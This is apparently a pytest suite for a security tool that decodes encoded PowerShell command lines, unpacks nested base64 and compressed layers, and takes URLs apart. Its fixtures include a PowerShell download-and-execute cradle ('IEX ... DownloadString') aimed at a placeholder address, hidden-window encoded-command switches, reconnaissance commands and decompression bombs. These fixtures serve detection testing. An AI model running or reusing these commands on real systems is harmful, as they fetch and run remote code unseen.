"""What can be read out of a value itself: encoded command lines, and the parts of a URL."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clew.entities import Domain, Finding, IpAddress, Outcome, Process, Relation, Url, Verdict
from clew.providers.base import Steps
from clew.providers.local.command_line import (
    MAX_DECODED,
    MAX_DEPTH,
    MAX_TRIES,
    MAX_TRIES_IN_TEXT,
    Decoder,
    decode_text,
    find_layers,
)
from clew.providers.local.url_parts import UrlParts
from tests.support import ENTITIES, HOSTILE, hiding

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7:8080/a.ps1')"


def b64(text: str, encoding: str = "utf-16-le") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


def finding(steps: Steps | Finding) -> Finding:
    assert isinstance(steps, Finding)
    return steps


def decoded(line: str | None) -> Finding:
    """What is read out of a command line."""
    process = Process("b34bc01c-7fae-5f63-1000-000000000400", host="ws01", command_line=line)
    return finding(Decoder.process.steps(process))


@pytest.mark.parametrize(
    "switch",
    ["-EncodedCommand", "-enc", "-e", "-E", "-ec", "/enc", "-eNcOd", "\u2013enc", "\u2014e", "-w hidden -nop -enc"],
)
@pytest.mark.parametrize("form", ["{} {}", '{} "{}"', "{} '{}'", "{}  {}", "{}:{}"])
def test_an_encoded_command_is_decoded(switch, form):
    """Every spelling of the switch that PowerShell takes gives the script, and the address and URL in it."""
    found = decoded("powershell.exe " + form.format(switch, b64(SCRIPT)))
    assert found.fact("decoded") == SCRIPT
    assert (found.outcome, found.verdict) == (Outcome.FOUND, Verdict.SUSPICIOUS)
    assert found.entities == (Url("http://198.51.100.7:8080/a.ps1"), IpAddress("198.51.100.7"))
    assert {(link.relation, link.inferred) for link in found.links} == {(Relation.DECODED_TO, True)}


def test_layers_are_decoded():
    """Base64 inside the script, plain, deflated or zipped, is decoded too, down to a depth."""
    inner = "$u = 'https://evil.example/x'; # " + "padding " * 20
    for packed in (inner.encode(), zlib.compress(inner.encode())[2:-4], gzip.compress(inner.encode(), mtime=0)):
        script = f"$b = [Convert]::FromBase64String('{base64.b64encode(packed).decode()}')"
        found = decoded(f"powershell -enc {b64(script)}")
        assert str(found.fact("decoded")).endswith(f"\n\n{inner}")
        assert set(found.entities) == {Url("https://evil.example/x"), Domain("evil.example")}
    deep = inner
    for _ in range(6):
        deep = f"x '{b64(deep, 'utf-8')}'"
    assert decoded(f"powershell -e {b64(deep)}").fact("layers") == MAX_DEPTH


@pytest.mark.parametrize(
    ("line", "why"),
    [
        (None, "its command line is not known"),
        ("notepad.exe a.txt", "no encoded command"),
        ("powershell -ExecutionPolicy Bypass -File C:\\scripts\\a.ps1", "no encoded command"),
        ("powershell -Exec BypassBypass", "no encoded command"),
        ("powershell -enc ////////////////", "no encoded command"),
        ("powershell -enc AAAAAAAAAAAA", "no encoded command"),
        ("net use /e ABCDEFGHIJ", "no encoded command"),
    ],
)
def test_what_is_not_encoded_is_nothing(line, why):
    """A plain command line is no finding, and no verdict."""
    found = decoded(line)
    assert (found.outcome, found.verdict, found.reason) == (Outcome.NOTHING, Verdict.UNKNOWN, why)


@pytest.mark.parametrize("value", [value for value in HOSTILE if "\ud800" not in value], ids=range(31))
def test_hostile_scripts_are_text(value):
    """What is decoded is shown as text."""
    found = decoded(f"powershell -enc {b64('Write-Host 0123456789 ' * 20 + value)}")
    assert value.strip("\0\ufeff") in str(found.fact("decoded")) or found.outcome is Outcome.NOTHING
    assert hiding(str(found)) == set()


def test_a_bomb_is_bounded():
    """Layers that unpack to a hundred each are tried up to a number, and the cut is told."""

    def packed(text: str) -> str:
        return f"'{base64.b64encode(zlib.compress(text.encode())[2:-4]).decode()}' "

    line = packed(packed(packed("A" * 2**19) * 100) * 100)
    begun = time.process_time()
    found = decoded(f"powershell -enc {b64(line * 4)}")
    assert time.process_time() - begun < 10
    assert sum(len(str(fact.value)) for fact in found.facts) < 64 * 2**20
    assert (found.truncated_by, found.available) == (f"{MAX_TRIES} encoded texts", None)
    assert len(found) <= MAX_TRIES


@pytest.mark.parametrize("part", ["-e", "-en", "'A", "A" * 15 + "'", "http://", "1.", "-e ", "'" + "A" * 16])
def test_time_grows_with_the_text(part):
    """Twice the text is about twice the time: no part of a command line makes the patterns go astray."""

    def seconds(size: int) -> float:
        line = "powershell -enc " + b64("x '" + part * size)
        begun = time.process_time()
        decoded(line + part * size)
        return time.process_time() - begun

    assert seconds(20_000) < 1 + 20 * seconds(2_000)


@given(st.text(max_size=80), st.sampled_from(("utf-8", "utf-16-le")))
def test_readable_text_comes_back(text, encoding):
    """Printable text of some length decodes to itself in both encodings."""
    printable = "".join(char for char in text if char.isascii() and char.isprintable())
    sent = f"{printable}readable"
    assert decode_text(b64(sent, encoding)) == sent


@given(st.one_of(st.text(), st.binary().map(lambda data: base64.b64encode(data).decode())))
def test_no_text_breaks_the_decoder(text):
    """Anything at all decodes to text or to nothing, and any command line ends in a finding."""
    assert isinstance(decode_text(text), str)
    assert decoded(f"powershell -enc {text}").outcome in (Outcome.FOUND, Outcome.NOTHING)


@pytest.mark.parametrize(
    ("url", "facts", "named"),
    [
        (
            "hxxps://evil[.]example:8443/a/b?c=d#e",
            {"scheme": "https", "host": "evil.example", "port": 8443, "path": "/a/b", "query": "c=d", "fragment": "e"},
            Domain("evil.example"),
        ),
        ("http://0x7f.1/", {"scheme": "http", "host": "127.0.0.1", "path": "/"}, IpAddress("127.0.0.1")),
        ("http://[2001:db8::1]/", {"scheme": "http", "host": "[2001:db8::1]", "path": "/"}, IpAddress("2001:db8::1")),
        ("http://localhost/", {"scheme": "http", "host": "localhost", "path": "/"}, None),
        (
            "https://good.example@evil.example/",
            {"scheme": "https", "host": "evil.example", "path": "/", "username": "good.example"},
            Domain("evil.example"),
        ),
    ],
)
def test_a_url_is_taken_apart_as_a_browser_would(url, facts, named):
    """The parts of a URL are facts, and its host is an entity."""
    found = finding(UrlParts.parts.steps(Url(url)))
    assert {fact.name: fact.value for fact in found.facts} == facts
    assert found.entities == ((named,) if named else ())


@given(st.lists(ENTITIES["url"], max_size=8))
def test_the_columns_say_what_the_parts_say(urls):
    """Taken apart all at once, each URL has the reason and the parts that it has alone."""
    columns = UrlParts.parts.columns({}, urls)
    for place, url in enumerate(urls):
        cells = {name: values[place] for name, values in columns.items() if values[place] is not None}
        alone = finding(UrlParts.parts.steps(url))
        assert cells == {"reason": alone.reason, **{fact.name: fact.value for fact in alone.facts}}


def test_a_password_is_not_repeated():
    """The password in a URL is no fact."""
    found = finding(UrlParts.parts.steps(Url("https://user:hunter22@evil.example/")))
    assert "hunter22" not in {fact.value for fact in found.facts}
    assert "hunter22" not in str(UrlParts.parts.columns({}, [Url("https://user:hunter22@evil.example/")]))


@given(ENTITIES["url"])
def test_every_url_has_parts(url):
    """Every URL that is one has a scheme, a host and a path of text."""
    found = finding(UrlParts.parts.steps(url))
    assert found.fact("scheme")
    assert str(found.fact("host")) in url.value


def test_base64_in_any_text_is_decoded():
    """Standing alone, padded or wrapped over lines, with what is encoded inside; hashes and words are none."""
    inner = b64("whoami /all && hostname", "utf-8")
    wrapped = base64.encodebytes(f"first line of a longer text, then '{inner}' and some more words".encode()).decode()
    layers, cut = find_layers(
        f"a {b64('whoami')} b\n{wrapped}\n{'5f' * 32} {'Download' * 4} /usr/share/local/things\nZXZpbA=="
    )
    assert [(layer.depth, layer.text) for layer in layers] == [
        (1, "whoami"),
        (1, f"first line of a longer text, then '{inner}' and some more words"),
        (2, "whoami /all && hostname"),
        (1, "evil"),
    ]
    assert cut == ""


def test_a_text_of_bombs_is_bounded():
    """What a text decodes to is cut, and the cut is told."""
    bomb = base64.b64encode(zlib.compress(b"A" * 2**19, 9)[2:-4]).decode()
    begun = time.process_time()
    layers, cut = find_layers(f"{bomb} " * 100)
    assert time.process_time() - begun < 10
    assert sum(len(layer.text) for layer in layers) <= MAX_DECODED
    assert cut == f"{MAX_DECODED:,} decoded characters"
    assert find_layers("dwBoAG8AYQBtAGkA " * (MAX_TRIES_IN_TEXT + 1))[1] == f"{MAX_TRIES_IN_TEXT:,} encoded texts"


@pytest.mark.parametrize(
    "part", ["A", "A" * 76 + "\n", "A" * 64 + "\n", "A" * 63 + "\n", "A+/", "=", "A=", "A" * 15 + " "]
)
def test_time_to_look_for_base64_grows_with_the_text(part):
    """Ten times the text is about ten times the time."""

    def seconds(size: int) -> float:
        begun = time.process_time()
        find_layers(part * (size // len(part)))
        return time.process_time() - begun

    assert seconds(1_000_000) < 2 + 50 * seconds(100_000)


@given(st.text(max_size=100) | st.text("ABab+/= \n", max_size=200))
def test_any_text_is_looked_through(text):
    """Nothing that a person pastes breaks the search."""
    layers, cut = find_layers(text)
    assert all(layer.text and 1 <= layer.depth <= MAX_DEPTH for layer in layers)
    assert cut == ""
